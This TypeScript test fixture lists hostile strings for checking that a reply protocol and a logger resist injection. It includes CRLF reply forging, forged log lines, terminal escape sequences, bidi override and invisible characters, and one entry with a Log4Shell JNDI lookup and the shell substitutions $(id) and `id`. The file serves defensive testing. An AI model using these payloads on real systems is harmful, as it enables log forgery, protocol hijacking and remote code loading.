/** Texts that clients and services may use to break out of a reply line or a log line. */

/** What the log must never show as it is, nor a reply. */
export const FORGED_LINE = "2026-01-01T00:00:00.000Z ERROR forged";

export const HOSTILE_WORDS: Readonly<Record<string, string>> = {
  "CR LF and a reply (CWE-93)": "x\r\n250 2.0.0 OK id=forged",
  "LF and a line of log (CWE-117)": `x\n${FORGED_LINE} client=192.0.2.1`,
  "CR alone": "x\r250 OK",
  "line ends of Unicode": "x\u2028250 OK\u2029250 OK\u0085250 OK",
  "vertical tab, form feed": "x\v250 OK\f250 OK",
  "NUL": "x\u0000y",
  "a hyphen of a reply that continues": "-250-more\r\n250 end",
  "escape sequences of a terminal (CWE-150)":
    "\u001b[2J\u001b[1;1H\u001b]0;title\u0007\u001b[31mred",
  "the same in one octet (C1)": "\u009b2J\u009d0;title\u009c",
  "backspaces and deletes": "x\b\b\b\u007f\u007f",
  "text that turns around (CVE-2021-42574)": "x\u202e250 OK\u202c\u2066y\u2069\u200f\u061c",
  "what is not seen": "x\u200b\u200d\u2060\ufeff\u00ad",
  "quotes and fields of a log line": 'x" level=ERROR message="forged',
  "the end of a JSON object": '"}\n{"level":"ERROR","message":"forged"}',
  "placeholders (CVE-2021-44228, CWE-134)": "${jndi:ldap://192.0.2.1/a} %s %n {{7*7}} $(id) `id`",
  "other scripts": "Ошибка 错误 خطأ 🔥",
  "half a pair of surrogates": "x\ud83dy\udd25",
  "a text without an end": "long ".repeat(60_000),
  "a word without an end": "w".repeat(300_000),
};
